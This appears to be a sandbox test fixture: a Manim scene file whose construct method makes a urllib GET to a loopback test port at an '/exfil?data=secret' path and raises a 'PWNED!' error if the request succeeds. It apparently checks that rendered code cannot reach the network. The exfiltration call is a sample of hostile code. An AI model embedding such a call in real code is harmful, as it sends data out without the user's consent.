"""urllib.request to the test's TCP port on the loopback (a GET that would exfiltrate a query)."""
from manim import *
import urllib.request

PWNED = "PWN" + "ED!"


class UrllibRequest(Scene):
    def construct(self):
        body = urllib.request.urlopen("http://127.0.0.1:@TCP_PORT@/exfil?data=secret", timeout=2).read()
        raise RuntimeError(f"{PWNED} http answered {body[:50]!r}")
